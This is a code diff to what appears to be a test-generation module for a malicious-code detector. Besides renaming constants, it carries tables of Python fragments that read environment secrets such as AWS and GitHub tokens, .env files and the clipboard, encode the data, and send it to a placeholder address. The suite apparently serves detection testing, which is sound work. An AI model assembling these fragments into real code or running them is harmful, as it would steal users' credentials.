@@ -3,8 +3,8 @@
 from tests.combinations.parts import ADDRESS, HOST, Plan
 from tests.evasions.case import Case
 
-_HEAD = "import base64, getpass, json, os, socket, subprocess, sys, urllib.parse, urllib.request, zlib\nfrom pathlib import Path\n"
-_TAKEN = {
+HEAD = "import base64, getpass, json, os, socket, subprocess, sys, urllib.parse, urllib.request, zlib\nfrom pathlib import Path\n"
+TAKEN = {
     "environment": "D = dict(os.environ)",
     "token": "D = os.environ.get('AWS_SECRET_ACCESS_KEY')",
     "token-by-getenv": "D = os.getenv('GITHUB_TOKEN')",
@@ -21,14 +21,14 @@ _TAKEN = {
     "dotenv": "D = open('.env').read()",
     "clipboard": "import pyperclip\nD = pyperclip.paste()",
 }
-_MADE = {
+MADE = {
     "plain": "S = D if isinstance(D, str) else json.dumps(D)",
     "base64": "S = base64.b64encode(json.dumps(D).encode()).decode()",
     "json": "S = json.dumps({'data': D})",
     "address": "S = urllib.parse.quote(str(D))",
     "packed": "S = base64.b64encode(zlib.compress(str(D).encode())).decode()",
 }
-_SENT = {
+SENT = {
     "urlopen": f"urllib.request.urlopen('{ADDRESS}', data=S.encode())",
     "request": f"r = urllib.request.Request('{ADDRESS}', data=S.encode(), method='POST')\nurllib.request.urlopen(r)",
     "query": f"urllib.request.urlopen('{ADDRESS}?d=' + S)",
@@ -69,16 +69,16 @@ def at_place(id_: str, place: str, head: str, body: str) -> Case:
 
 
 def _make(id_: str, place: str, begin: str, middle: str, end: str) -> Case:
-    return at_place(id_, place, _HEAD, f"{begin}\n{middle}\n{end}")
+    return at_place(id_, place, HEAD, f"{begin}\n{middle}\n{end}")
 
 
 PLAN = Plan(
     "python-taken",
-    _TAKEN,
-    _MADE,
-    _SENT,
+    TAKEN,
+    MADE,
+    SENT,
     ("setup", "command", "import", "function"),
     _make,
     # What a session says in its headers, and who runs a program that sends: clients and installers do as much.
-    missed=frozenset((*((taken, "session") for taken in _TAKEN), ("who", "curl-of-words"))),
+    missed=frozenset((*((taken, "session") for taken in TAKEN), ("who", "curl-of-words"))),
 )
